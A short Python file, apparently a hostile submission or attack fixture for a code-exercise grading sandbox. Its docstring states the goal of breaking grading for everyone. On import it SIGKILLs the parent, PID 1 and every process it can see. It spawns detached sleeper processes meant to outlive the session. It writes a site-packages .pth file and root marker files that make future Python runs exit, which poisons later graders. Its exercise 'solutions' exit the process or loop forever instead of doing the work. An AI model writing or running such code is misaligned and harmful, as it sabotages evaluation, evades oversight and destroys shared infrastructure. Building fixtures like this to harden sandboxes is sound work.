# ruff: noqa
"""Break grading for everyone: kill the grader, outlive it, poison the next grader, loop."""

# EXERCISE: fx.box
import os
import signal
import subprocess
import sys
import site

blocked = []
for pid in [os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception as e:
            blocked.append(type(e).__name__)
try:
    fd = os.pidfd_open(os.getppid())
    signal.pidfd_send_signal(fd, signal.SIGKILL)
except Exception as e:
    blocked.append(type(e).__name__)
for cmd in (["sleep", "300", "convlab-attack-sleeper"],
            [sys.executable, "-c", "import time; time.sleep(300)  # convlab-attack-sleeper"]):
    try:
        subprocess.Popen(cmd, start_new_session=True)
    except Exception as e:
        blocked.append(type(e).__name__)
for target in [os.path.join(d, "convlab_attack.pth") for d in site.getsitepackages()] + [
        os.path.expanduser("~root/convlab_attack_marker"), "@ROOT@/convlab_attack_marker"]:
    try:
        with open(target, "w") as f:
            f.write("import os; os._exit(3)\n")
    except Exception as e:
        blocked.append(type(e).__name__)


def filter2d_numpy(image, kernel):
    os._exit(1)

# EXERCISE: fx.gemm
BLOCK = 8


def matmul_blocked(a, b):
    while True:
        pass
